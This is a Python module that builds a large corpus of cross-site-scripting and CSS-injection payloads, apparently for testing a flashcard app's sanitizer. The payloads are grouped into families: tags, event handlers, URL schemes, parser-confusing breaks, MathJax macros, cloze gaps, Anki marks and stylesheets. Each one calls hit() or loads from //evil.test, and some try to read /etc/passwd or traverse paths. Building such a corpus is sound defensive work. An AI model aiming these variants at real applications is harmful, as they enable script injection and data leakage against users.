"""Texts that would run or load something, by families: tags, attributes, encodings, breaks, Markdown, math, gaps, CSS.

Each runs `hit()` or asks `//evil.test`; what that does is up to who tries them. They are made here by combining parts, so
that a family can grow by a line.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable, Iterator

JS = "hit()"
URL = "//evil.test/x"
SCRIPT_ADDRESS = "javascript:hit()"


def _tags() -> Iterator[str]:
    """Tags that run or load by themselves, in several spellings of their ends."""
    runs = [
        f"<script>{JS}</script>", f"<script src={URL}></script>", f"<script type=module>{JS}</script>",
        f"<svg><script>{JS}</script></svg>", f"<math><script>{JS}</script></math>", f"<iframe src={URL}></iframe>",
        f"<iframe srcdoc='<script>{JS}</script>'></iframe>", f"<object data={URL}></object>", f"<embed src={URL}>",
        f"<link rel=stylesheet href={URL}>", f"<link rel=prefetch href={URL}>", f"<link rel=import href={URL}>",
        f"<meta http-equiv=refresh content='0;url={URL}'>", f"<base href={URL}>", f"<style>@import '{URL}';</style>",
        f"<style>*{{background:url({URL})}}</style>", f"<form action={URL}><button>x</button></form>",
        f"<input type=image src={URL}>", f"<video src={URL}></video>", f"<audio src={URL}></audio>",
        f"<video><source src={URL}></video>", f"<video poster={URL}></video>", f"<img src={URL}>", f"<img srcset={URL}>",
        f"<picture><source srcset={URL}><img></picture>", f"<image src={URL}>", f"<track src={URL}>",
        f"<frameset><frame src={URL}></frameset>", f"<portal src={URL}></portal>", f"<applet code={URL}></applet>",
        f"<body background={URL}>", f"<table background={URL}><tr><td>x</table>", f"<bgsound src={URL}>",
        f"<isindex action={URL}>", f"<layer src={URL}></layer>", f"<xml src={URL}></xml>", f"<keygen autofocus onfocus={JS}>",
        f"<svg><image href={URL} /></svg>", f"<svg><use href='{URL}#x' /></svg>", f"<svg><feImage href={URL} /></svg>",
        f"<svg><a href='{SCRIPT_ADDRESS}'><text y=9>x</text></a></svg>",
        f"<svg><animate onbegin={JS} attributeName=x dur=1s></svg>", f"<svg><set onbegin={JS} attributeName=x></svg>",
        f"<svg><a><animate attributeName=href values='{SCRIPT_ADDRESS}' /><text y=9>x</text></a></svg>",
        f"<svg><foreignObject><iframe src={URL}></iframe></foreignObject></svg>", f"<svg><style>@import '{URL}';</style></svg>",
        f"<math href='{SCRIPT_ADDRESS}'>x</math>", f"<math><mtext><img src=x onerror={JS}></mtext></math>",
        f"<math><maction actiontype='statusline#{URL}' xlink:href='{SCRIPT_ADDRESS}'>x</maction></math>",
        f"<math><annotation-xml encoding='text/html'><script>{JS}</script></annotation-xml></math>",
        f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}>",
        f"<svg></p><style><a id='</style><img src=x onerror={JS}>'>", f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
        f"<textarea><p title='</textarea><img src=x onerror={JS}>'>", f"<title><p title='</title><img src=x onerror={JS}>'>",
        f"<xmp><p title='</xmp><img src=x onerror={JS}>'>", f"<noembed><p title='</noembed><img src=x onerror={JS}>'>",
        f"<template><img src=x onerror={JS}></template>", f"<select><template><img src=x onerror={JS}></template></select>",
        f"<plaintext><img src=x onerror={JS}>", f"<dialog open onclose={JS}>x</dialog>", f"<marquee onstart={JS}>x</marquee>",
        f"<portal/><details open ontoggle={JS}>x</details>", f"<x-evil onclick={JS}>x</x-evil>", f"<slot onslotchange={JS}>x</slot>",
        f"<center><script>{JS}</script></center>", f"<font><iframe src={URL}></iframe></font>", f"<o:p><script>{JS}</script></o:p>",
        f"<webview src={URL}></webview>", f"<model src={URL}></model>", f"<fencedframe src={URL}></fencedframe>",
        f"<img src=a.png attributionsrc={URL}>", f"<a href=https://e.test attributionsrc={URL}>x</a>", f"<b popover ontoggle={JS}>x</b>",
        f"<b><script>{JS}</script></b>", f"<div>\n\n<script>\n{JS}\n</script>\n\n</div>", f"<p><script>{JS}", f"<iframe src={URL}",
    ]  # fmt: skip
    yield from runs


EVENTS = [
    *("onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"),
    *("onbeforematch", "onwheel", "oncopy", "onscroll", "ontransitionend", "onauxclick", "onplay", "onloadstart"),
]
HOLDERS = ["b", "img", "a", "details", "video", "td", "svg", "body", "ruby", "q", "li", "summary"]


def _handlers() -> Iterator[str]:
    """Event handlers on tags that may stand in a card and on others, with every kind of break before them."""
    breaks = [" ", "\n", "\t", "/", " / ", "\f", "\r\n", " x ", " x='>' ", ' x=">" ', " x=`>` ", "//", "/x/"]
    for number, (holder, event) in enumerate(itertools.product(HOLDERS, EVENTS)):
        if number % 3 == 0:
            end = "" if holder == "img" else f"x</{holder}>"
            source = " src=x" if holder in ("img", "video") else ""
            yield f"<{holder}{source}{breaks[number % len(breaks)]}{event}={JS}>{end}"
    for gap in breaks:
        yield f"<b{gap}onclick={JS}>x</b>"
    quoted = [f'"{JS}"', f"'{JS}'", f"`{JS}`", f"{JS}//", "&#104;it()", "'&#x68;it&lpar;)'", f"\n{JS}\n", f' = "{JS}"']
    for value in quoted:
        yield f"<b onclick={value}>x</b>"
        yield f"<IMG SRC=x OnErRoR={value}>"
    yield f'<b onclick\n=\n"{JS}">x</b>'
    yield f"<b title=a'b onclick={JS}>x</b>"
    yield f'<b title="a"onclick="{JS}">x</b>'
    yield f"<b title='\">' onclick={JS}>x</b>"
    yield f"<b =onclick={JS}>x</b>"
    yield f'<b "onclick={JS}>x</b>'
    yield f"<b <i onclick={JS}>x</i></b>"
    yield f"<<b onclick={JS}>x</b>"
    yield f"<b\x00 onclick={JS}>x</b>"
    yield f"<b on\x00click={JS}>x</b>"
    yield f"<\x00script>{JS}</script>"
    yield f"<scr\x00ipt>{JS}</scr\x00ipt>"
    yield f"<b onclick={JS} x"


SCHEMES = [
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "\tjavascript:hit()", "java\tscript:hit()",
    "java\nscript:hit()", "javascript&colon;hit()", "javascript&#58;hit()", "javascript&#x3a;hit()", "&#106;avascript:hit()",
    "&#0000106avascript:hit()", "&#x6A;avascript:hit()", "java&Tab;script:hit()", "java&NewLine;script:hit()",
    "&#1;javascript:hit()", "&#14; javascript:hit()", "javascript://%0ahit()", "javascript://x.test/%0Ahit()",
    "jav\x00ascript:hit()", "\x01javascript:hit()", "vbscript:hit()", "livescript:hit()", "mocha:hit()",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:,x",
    "blob:https://x.test/1", "file:///etc/passwd", "filesystem:x", "feed:javascript:hit()", "view-source:javascript:hit()",
    "jar:https://x.test/a.jar!/b", "x-evil:hit()", "intent://x#Intent;end", "anki:play:q:0", "about:blank", "//evil.test/x",
    "\\\\evil.test\\x", "/\\evil.test/x", "https:evil.test", "http:\\\\evil.test", "https://evil.test:99999999/", "%6aavascript:hit()",
    "javascript%3ahit()", "ｊavascript:hit()", "java\u00adscript:hit()", "\u2028javascript:hit()", "\ufeffjavascript:hit()",
]  # fmt: skip


def _addresses() -> Iterator[str]:
    """Addresses of links and pictures, in HTML and in Markdown."""
    for scheme in SCHEMES:
        yield f'<a href="{scheme}">x</a>'
        yield f"<a href={scheme}>x</a>"
        yield f"[x]({scheme})"
        yield f"![x]({scheme})"
    for scheme in SCHEMES[:24]:
        yield f"<a href='{scheme}' target=_self>x</a>"
        yield f"<img src='{scheme}'>"
        yield f"[x](<{scheme}>)"
        yield f"<{scheme}>"
        yield f"<a xlink:href='{scheme}' href=x>y</a>"
        yield f"<q cite='{scheme}'>x</q>"


def _breaks() -> Iterator[str]:
    """Signs that one reader takes for the end of a comment, a quote or a tag, and another does not."""
    inner = f"<img src=x onerror={JS}>"
    for before, after in [
        ("<!-->", "-->"), ("<!--->", "-->"), ("<!-- --!>", "-->"), ("<!-- -- >", "-->"), ("<!--", ""), ("<!--\n", "\n-->"),
        ("<!-- <!-- -->", "-->"), ("<![CDATA[", "]]>"), ("<!doctype x [", "]>"), ("<?xml ", "?>"), ("<?", "?>"), ("<!", ">"),
        ("</", ">"), ("<%", "%>"), ("<//", ">"), ("</ x>", ""), ("<a title='", "'>"), ('<a title="', '">'), ("<a title=`", "`>"),
        ("<b x=`y`", "`>"), ("`", "`<b>"), ("``` \n", "\n```\n"), ("~~~\n", "\n~~~\n"), ("    ", "\n"), ("<pre>", "</pre>"),
        ("<code>", "</code>"), ("<pre><code>`", "`</code></pre>"), ("- `", "\n- `"), ("| `", " | ` |\n|---|---|\n| x | y |\n"),
        ("> `", "\n`"), ("\\", ""), ("\\\\", ""), ("&lt;", ""), ("&lt", ""), ("&#60;", ""), ("\x02", "\x03"), ("\x0e0\x0f", ""),
        ("\x110\x12", ""), ("<b \x110\x12>", "</b>"), ("\x10lt;", ""), ("[", "](x)"), ("[x](", ")"), ("![", "](a.png)"),
        ('![x](a.png "', '")'), ("[x](https://e.test '", "')"), ("[x]: ", "\n\n[x]"), ("*", "*"), ("**<b>", "</b>**"),
        ("~~", "~~"), ("==", "=="), ("<b>", ""), ("</b>", ""), ("<table><tr>", "</tr></table>"), ("<ul>", "</ul>"), ("# ", " #"),
        ("<select><option>", "</option></select>"), ("<style>", "</style>"), ("<title>", "</title>"), ("<svg>", "</svg>"),
        ("<math><mi>", "</mi></math>"), ("<details title='", "'></details>"), ("<ruby><rt>", "</rt></ruby>"),
        ("<div><!-- -->", "</div>"), ("\ufeff", ""), ("\u2028", ""), ("<\u200b>", ""), ("＜script＞", ""), ("<ｓcript>", ""),
    ]:  # fmt: skip
        yield f"{before}{inner}{after}"
    yield f"<b title='<!--'>{inner}-->"
    yield f"&lt;script&gt;{JS}&lt;/script&gt;"
    yield f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;"
    yield f"&#60;script&#62;{JS}&#60;/script&#62;"
    yield f"+ADw-script+AD4-{JS}+ADw-/script+AD4-"
    yield f"%3Cscript%3E{JS}%3C/script%3E"
    yield f"\\u003cscript>{JS}\\u003c/script>"
    yield f"¼script¾{JS}¼/script¾"
    yield f"`<script>{JS}</script>`"
    yield f"```html\n<script>{JS}</script>\n```"
    yield f'```" onclick="{JS}\nx\n```'
    yield f"\\<script>{JS}\\</script>"


COMPOSED = [
    "**\u0338 onclick=hit() x**", "*\u0338 onclick=hit() x*", "`\u0338 onclick=hit() x`", "[\u0338 onclick=hit() x](https://e.test)",
    "- \u0338 onclick=hit() x\n- y", "# \u0338 onclick=hit() x", "> \u0338 onclick=hit() x\n> y", "a\n\u0338 onclick=hit() x", "\u0338 onclick=hit() x",
    "![x](a.png)\u0338 onerror=hit() x", "<b>\u0338 onclick=hit() x</b>", "<b>\u0323<!-- -->\u0338 onclick=hit() x</b>", "<b>\x01\u0338 onclick=hit() x</b>",
    "<b title=\u0338/onclick=hit()>x</b>", "<b title=a>\u0338 onclick=hit() >x</b>", "<b>\u0338 onclick=hit() x", "<br>\n\u0338 onclick=hit() x",
    "<scr\x1fipt>hit()</scr\x1fipt>", "<img src\u037e onerror=hit()>", "&lt\u037eimg src=x onerror=hit()>", "\u1fef<img src=x onerror=hit()>\u1fef",
]  # fmt: skip
"""Those that become another text on import, where Anki composes letters and drops control characters."""
MATH_TRICKS = [
    r"\(a\\)\href{javascript:hit()}{x} \(b\)", r"\(a{\)\href{javascript:hit()}{x}} \(b\)", r"\href{javascript:hit()}{x}} \(b\)",
    r"\(a{\)", r"(\href{javascript:hit()}{x} \(b\)", r"\(\text{\)}\href{javascript:hit()}{x}\)",
    rf'<details title="\(" open ontoggle="{JS}" x="\)">x</details>', rf"<b title='\(' onclick='{JS}' x='\)'>x</b>",
    rf'[x](https://e.test/\("onmouseover="{JS}\))', rf'![x](a.png "\(" onerror="{JS}\)")', rf'![\(" onerror="{JS}\)](a.png)',
    rf"\(<script>{JS}</script>\)", rf"\[<img src=x onerror={JS}>\]", rf"\(x\)<b \(onclick={JS}\)>y</b>",
    rf"<b \[ onclick={JS} \]>x</b>", rf"<\(b onclick={JS}\)>x</b>", rf"\(</b><script>{JS}</script>\)",
    rf"<a href='\(javascript:{JS}\)'>x</a>", rf"<a href='java\(script:{JS}\)'>x</a>", rf"\(\text{{<script>{JS}</script>}}\)",
    r"\(\href{javascript:hit()}{x}\)", r"\[\href{javascript:hit()}{x}\]", r"\(\href {javascript:hit()}{x}\)",
    r"\(\style{background:url(//evil.test/x)}{x}\)", r"\(\class{x}{\style{background:url(//evil.test/x)}{x}}\)",
    r"\(\cssId{qa}{x}\)", r"\(\require{html}\href{javascript:hit()}{x}\)", r"\(\require{[mathjax]/../../../../evil}x\)",
    r"\(\mmlToken{mi}[href='javascript:hit()']{x}\)", r'\(\mmlToken{mi}[style="background:url(//evil.test/x)"]{x}\)',
    r"\(\bbox[background:url(//evil.test/x)]{x}\)", r"\(\let\x\href\x{javascript:hit()}{x}\)",
    r"\(\def\x#1{\href#1{y}}\x{{javascript:hit()}}\)", r"\(\newcommand\x{\style}\x{background:url(//evil.test/x)}{x}\)",
    r"\(\def\f#1{\bbox[#1]{x}}\f{background:url(//evil.test/x)}\)", r"\(\data{x=y}{x}\)", r"\(\setoptions{x}\)",
    r"\\(\\href{javascript:hit()}{x}\\)", r"\\(\\href{javascript:hit()}{x}\\<wbr>)", r"\\<wbr>(\\href{javascript:hit()}{x}\\<wbr>)",
    r"\\<!-- -->(\\href{javascript:hit()}{x}\\)", r"\\[\\style{background:url(//evil.test/x)}{x}\\]",
    r"\(\hr<wbr>ef{javascript:hit()}{x}\)", r"\\(\\hr<wbr>ef{javascript:hit()}{x}\\)", r"\(\ce{$\href{javascript:hit()}{x}$}\)",
    r"$\href{javascript:hit()}{x}$", r"$$\href{javascript:hit()}{x}$$", r"[$]\href{javascript:hit()}{x}[/$]",
    r"\begin{x}\href{javascript:hit()}{x}\end{x}", r"\(\unicode{x6a}\href{javascript:hit()}{x}\)",
    r"\(\fcolorbox{red;background:url(//evil.test/x)}{white}{x}\)", r"\(\fcolorbox[named]{red;background:url(//evil.test/x)}{white}{x}\)",
    r"\(\definecolor{q}{named}{red;background:url(//evil.test/x)}\fcolorbox{q}{white}{x}\)", r"\(\def\f#1{\fcolorbox{#1}{white}{x}}\f{red}\)",
    r"\(\unicode[a;background:url(//evil.test/x)]{x41}\)", r"\(\unicode[.2,.2][a;background:url(//evil.test/x)]{x42}\)",
    r"\(\let\g\unicode\g[a;background:url(//evil.test/x)]{x43}\)", r"\(\ce{$\fcolorbox{red;background:url(//evil.test/x)}{white}{x}$}\)",
    r"\(\hr&#101;f{javascript:hit()}{x}\)", r"&#92;(&bsol;href{javascript:hit()}{x}&#92;)", r"\(\h<!-- -->ref{javascript:hit()}{x}\)",
    r"\(\h<b></b>ref{javascript:hit()}{x}\)", "\\(\\h\0ref{javascript:hit()}{x}\\)", r"<code class='tex2jax_process'>\(\href{javascript:hit()}{x}\)</code>",
    r"<code class='a mathjax_process'>\(\href{javascript:hit()}{x}\)</code>", "``` tex2jax_process\n\\(\\href{javascript:hit()}{x}\\)\n```",
]  # fmt: skip
GAP_TRICKS = [
    "{{{{c1::{}}}}}", "{{{{c1::x::{}}}}}", "{{{{c1::x}}}}{}", "{}{{{{c1::x}}}}", "{{{{c1::a {{{{c2::{}}}}} b}}}}",
    "{{{{c1::`{}`}}}}", "{{{{c1::<b>}}}}{}</b>", "<b title='{{{{c1::{}}}}}'>x</b>", "<b {{{{c1::x}}}} title={}>x</b>",
]  # fmt: skip
GAPPED_MATH = [
    r"\(\hr{{c1::ef}}{javascript:hit()}{x}\)", r"{{c1::\(\hr::hint}}ef{javascript:hit()}{x}\)", r"\(\hr{{c1::ef::{x} }}{javascript:hit()}{y}\)",
    r"{{c1::\(\hr::{x} }}ef{javascript:hit()}{y}\)", r"\(\{{c1::href{javascript:hit()}{x}}}\)", r"\{{c1::(\href{javascript:hit()}{x}\)}}",
    "<b title='{{c1::x}}' onclick=hit()>y</b>", "{{c1::<b title='}}' onclick=hit()>x</b>", "<im{{c1::g}} src=x onerror=hit()>",
    '<b title="{{c1::x}}<img src=x onerror=hit()>">y</b>', '<b title="{{c1::x::<img src=x onerror=hit()>}}">y</b>',
    '{{c1::<b title="a::b">x</b>}} <i title="><img src=x onerror=hit()>">y</i>', "{{c1::<!-- }} {{c2::<img src=x onerror=hit()> --> }}",
    r"\(\h<br>{{c1::ref}}{javascript:hit()}{x}\)", "{{c1::x::latex}}", "{{c1::x::[type:Text}}", "{{c1::x::sound:x.mp3}}",
    "<{{c1::script}}>hit()</{{c1::script}}>", "<scr{{c1::}}ipt>hit()</script>", "{{c1::[sound:x}}.mp3]", "[[type:{{c1::Text}}]]",
]  # fmt: skip
ANKI_MARKS = [
    "[[type:Front]]", "a[[type:Front]]", "\\[[type:Front]]", "`[[type:Front]]`", "[[type:cloze:Text]]", "[[TYPE:Front]]",
    "[anki:play:q:0]", "[anki:play:a:0]", "[anki:tts lang=en_US]x[/anki:tts]", "[anki:tts lang=en_US voices=A]x[/anki:tts]",
    "`[anki:tts lang=en_US]x[/anki:tts]`", "[latex]\\input{/etc/passwd}[/latex]", "\\[latex]x\\[/latex]", "`[latex]x[/latex]`",
    "[$]x[/$]", "[$$]x[/$$]", "\\[$]x\\[/$]", "[LaTeX]x[/LaTeX]", "[sound:https://evil.test/x.mp3]", "[sound://evil.test/x.mp3]",
    "[sound:../../x.mp3]", "`[sound:x.mp3]`", "\\[sound:x.mp3]", "\\([sound:x.mp3]\\)", "\\([latex]x[/latex]\\)",
    "![[//evil.test/x.png]]", "![[x.png\" onerror=\"hit()]]", "![[//evil.test/x.mp3]]", "![[a.png|\" onerror=\"hit()]]",
    "{{Front}}", "{{{Front}}}", "{{text:Front}}", "{{#Front}}x{{/Front}}", "{{=<% %>=}}<%Front%>", "{{FrontSide}}", "{{Tags}}",
    "{{c0::x}}", "{{c1:x}}", "<!-- {{Front}} -->", "[[>hint]]", "[[speak:Front]]", "[[Why]]", "[[body]]", "[[address]]",
    "```\n[latex]x[/latex]\n[[type:Front]]\n[sound:x.mp3]\n```", "<b title='[[type:Front]]'>x</b>", "<b title='[sound:x.mp3]'>y</b>",
    "<a href='https://e.test/[anki:play:q:0]'>x</a>", "[x](https://e.test/[sound:x.mp3])", "![[latex]x[/latex]](a.png)",
    '<b title="[sound:x.mp3]<img src=x onerror=hit()>">x</b>', '<b title="[anki:play:q:0]<img src=x onerror=hit()>">x</b>',
    '[sound:<b title="x.mp3]<img src=x onerror=hit()>">y</b>', '<b title="x[y]<img src=x onerror=hit()>">z</b>', "<![CDATA[<img src=x onerror=hit()>]]>",
    "sound:x.mp3", "latex", "/latex", "$", "$$", "anki:play:q:0", "[type:Shown]", "[l[x]atex]y[/l[x]atex]", "a[[]latex]y[[]/latex]", "[so[x]und:x.mp3]", "\\(\\hr[x]ef{javascript:hit()}{y}\\)", "x\\\\", "x\\",
]  # fmt: skip
STYLES = [
    "background:url(//evil.test/x)", "background:url('//evil.test/x')", "background:URL( \"//evil.test/x\" )",
    "background:u\\72l(//evil.test/x)", "background:\\75\\72\\6c(//evil.test/x)", "background:u\\\nrl(//evil.test/x)",
    "background:ur/**/l(//evil.test/x)", "background:url(/**///evil.test/x)", "list-style:url(//evil.test/x)",
    "background:image-set('//evil.test/x' 1x)", "background:-webkit-image-set(url(//evil.test/x) 1x)",
    "background:image('//evil.test/x')", "background:cross-fade(url(//evil.test/x),red)", "background:src('//evil.test/x')",
    "content:url(//evil.test/x)", "cursor:url(//evil.test/x),auto", "filter:url(//evil.test/x#f)", "mask:url(//evil.test/x)",
    "clip-path:url(//evil.test/x#c)", "shape-outside:url(//evil.test/x)", "border-image:url(//evil.test/x) 1",
    "offset-path:url(//evil.test/x)", "fill:url(//evil.test/x)", "--x:url(//evil.test/x);background:var(--x)",
    "--x:'//evil.test/x';background:image-set(var(--x) 1x)", "--u:u;background:var(--u)rl(//evil.test/x)",
    "width:expression(hit())", "width:exp/**/ression(hit())", "behavior:url(data:x)", "-moz-binding:url(data:x)",
    "background:'x\nurl(//evil.test/x)", "color:red;}*{background:url(//evil.test/x)", "background:attr(data-x url)",
    "background:attr(data-x type(<url>))", "background:element(#x)", "background:paint(x)", "font:url(//evil.test/x)",
    "background:url(data:x,x),url(//evil.test/x)", "background:url(\"data:x,x\" url(//evil.test/x))", "/*x*/background/**/:url(//evil.test/x)",
    "background:url(//evil.test/x", "background:url('//evil.test/x", "x:{y:url(//evil.test/x)}", "a{background:url(//evil.test/x)}",
    "background:url(_evil.png)", "background:url(#x)", "background:url(javascript:hit())", "background:url(\\2f/evil.test/x)",
]  # fmt: skip
SHEETS = [
    "@import '//evil.test/x';", "@import url(//evil.test/x);", "@\\69mport '//evil.test/x';", "@IMPORT\n'//evil.test/x';",
    "@charset 'utf-8'; @import '//evil.test/x';", "@import '//evil.test/x' layer(x) supports(x:y);", "@namespace url(//evil.test/x);",
    "@namespace x '//evil.test/x';", "@font-face{font-family:x;src:url(//evil.test/x)} *{font-family:x}",
    "@font-face{font-family:x;src:local(x),url('//evil.test/x') format('woff2')} *{font-family:x}",
    "</style><script>hit()</script>", "a{content:'</style><script>hit()</script>'}", "/*</style><script>hit()</script>*/",
    "</StYlE\n><img src=x onerror=hit()>", "<\\/style><script>hit()</script>", "<!-- </style><script>hit()</script> -->",
    "@media screen{@import '//evil.test/x';}", "@supports (x:y){*{background:url(//evil.test/x)}}",
    "@layer x{*{background:url(//evil.test/x)}}", "@container x (width>1px){*{background:url(//evil.test/x)}}",
    "*{&:hover{background:url(//evil.test/x)}}", "@property --x{syntax:'<url>';inherits:true;initial-value:url(//evil.test/x)}",
    "@counter-style x{system:cyclic;symbols:url(//evil.test/x)} li{list-style:x}", "@page{background:url(//evil.test/x)}",
    "@keyframes x{to{background:url(//evil.test/x)}} *{animation:x 1s}", "@-moz-document url(//evil.test/x){*{color:red}}",
    "@font-feature-values x{@styleset{a:url(//evil.test/x)}}", "a:not([x='</style>']){color:red}", "*{background:url(//evil.test/x)",
    "'\n*{background:url(//evil.test/x)}", "/* ' */ *{background:url(//evil.test/x)} /* ' */", "\"/*\" *{background:url(//evil.test/x)} \"*/\"",
    "a{x:'/*'} *{background:url(//evil.test/x)} b{x:'*/'}", "a{x:\"\\\"/*\"} *{background:url(//evil.test/x)} /**/",
    "/**/*{background:url(//evil.test/x)}/**/", "}*{background:url(//evil.test/x)}", ")*{background:url(//evil.test/x)}",
    "a{b:url(x y)} *{background:url(//evil.test/x)}", "\x00@import '//evil.test/x';", "a{b:c;;;d:url(//evil.test/x)}",
    "<!-- *{background:url(//evil.test/x)} -->", "@import\x0c'//evil.test/x';", "\ufeff@import '//evil.test/x';",
]  # fmt: skip


def sheets() -> list[str]:
    """Return stylesheets that load, run, or end the style."""
    return [*SHEETS, *(f"*{{{style}}}" for style in STYLES)]


def _styles() -> Iterator[str]:
    for number, style in enumerate(STYLES):
        quote = "'" if '"' in style else '"'
        yield f"<b style={quote}{style}{quote}>x</b>" if number % 2 else f"<div style={quote}{style}{quote}>x</div>"


def _gaps(texts: Iterable[str]) -> Iterator[str]:
    for number, text in enumerate(texts):
        yield GAP_TRICKS[number % len(GAP_TRICKS)].format(text)


FAMILIES = {
    "tags": list(_tags()),
    "handlers": list(_handlers()),
    "addresses": list(_addresses()),
    "breaks": list(_breaks()),
    "composed": COMPOSED,
    "math": MATH_TRICKS,
    "gaps": [*_gaps([*itertools.islice(_tags(), 0, None, 3), *MATH_TRICKS[::2]]), *GAPPED_MATH],
    "marks": ANKI_MARKS,
    "styles": list(_styles()),
}
"""The vectors by their families."""
VECTORS = [vector for family in FAMILIES.values() for vector in family]

VALUES = [
    "script", "b onclick=hit()", "onclick=hit()", "x onclick=hit() y", "' onclick=hit() x='", '" onclick=hit() x="',
    "javascript:hit()", "//evil.test/x", "x > y", "-->", "`--><img src=x onerror=hit()>`", "`</style><script>hit()</script>`",
    "`\"'><script>hit()</script>`", "`<script>hit()</script>`", "url(//evil.test/x)", "]]>", "&", "sound:x.mp3", "latex", "$",
    "(\\\\href{javascript:hit()}{x}\\\\)", "\\(x\\)", "x\\\\", "href{javascript:hit()}{x}", "[/anki:tts]`<b onclick=hit()>`",
]  # fmt: skip
"""What a field may hold."""
CONTEXTS = [
    "<{}>x", "<{} src=x onerror=hit()>", "</{}>", "<b{}>x</b>", "<b {}>x</b>", "<b {}=x>y</b>", "<b x{}>y</b>", "<b on{}=hit()>x</b>",
    "<b title={}>x</b>", "<b title='{}'>x</b>", '<b title="{}">x</b>', "<b class=a{}>x</b>", "<b class='a {}'>x</b>",
    '<b class="a {}">x</b>', '<b id="{}">x</b>', "<b data-x={}>x</b>", '<b data-x="{}">x</b>', "<b lang='{}'>x</b>",
    "<a href={}>x</a>", "<a href='{}'>x</a>", '<a href="{}">x</a>', '<a href="https://e.test/{}">x</a>', "<a href='https://e.test/{}'>x</a>",
    '<a href="java{}script:hit()">x</a>', '<a href="{}https://e.test/">x</a>', '<a href="https://{}/">x</a>', "<b style={}>x</b>",
    '<b style="color:{}">x</b>', '<b style="background:url({})">x</b>', "<b style='{}'>x</b>", "<!-- {} -->", "<!--{}", "<!-->{}-->",
    "<!-- --!>{}-->", "<!- {} -->", "<!{}>", "<?{}?>", "<![CDATA[{}]]>", "<style>{}</style>", "<script>{}</script>",
    "<script src={}></script>", "<title>{}</title>", "<textarea>{}</textarea>", "<noscript>{}</noscript>", "<svg>{}</svg>",
    "<math>{}</math>", "<template>{}</template>", "<select>{}</select>", "<img src={}>", '<img src="{}">', "<iframe srcdoc='{}'></iframe>",
    "\\({}\\)", "\\[{}\\]", "\\({}", "{}\\)", "\\{}", "\\{}\\)", "[{}]x[/{}]", "[sound:{}]", "[latex]{}[/latex]", "[$]{}[/$]",
    "[anki:tts lang=en_US]{}[/anki:tts]", "[[type:{}]]", "<b title='{}", '<b title="{}', "<b {}", "<{}", "<b title=`{}`>x</b>",
    "{}<b title='", "<table>{}</table>", "<table><tr>{}</table>", "<p>{}</p>", "<wbr title='dwmarkend'>{}", "dwmark0z <!{}>",
    "<b title='x'{}>y</b>", "<b/{}/>x</b>", "&{};", "&#{};", "<b title='&quot;{}'>x</b>", "{}</div></div></div></div>",
    "<body {}>", "<html onclick='{}'>", "<body onload=hit()>{}", "<a href='#' title='{}'>x</a>",
]  # fmt: skip
"""Where a mark may stand in a template, as `{}`."""
MARKS = [
    "{{Q}}", "{{R}}", "{{Tags}}", "{{Deck}}", "{{Subdeck}}", "{{Type}}", "{{Card}}", "{{Id}}", "{{text:Q}}", "{{hint:Q}}",
    "{{type:Q}}", "{{kana:Q}}", "{{kanji:Q}}", "{{furigana:Q}}", "{{tts en_US:Q}}", "{{text:Tags}}", "{{FrontSide}}",
    "{{#Q}}script{{/Q}}", "{{#Q}}{{Q}}{{/Q}}", "{{^R}}script{{/R}}", "{{#Tags}}{{Q}}{{/Tags}}", "{{Q}}{{R}}", "[[Why]]",
    "[[>hint]]", "[[speak:Q]]", "{{{Q}}}", "{{ Q }}", "{{=<% %>=}}<%Q%>", "<!--{{Q}}-->", "{{#Q}}</b>{{/Q}}",
]  # fmt: skip
"""Marks of templates."""
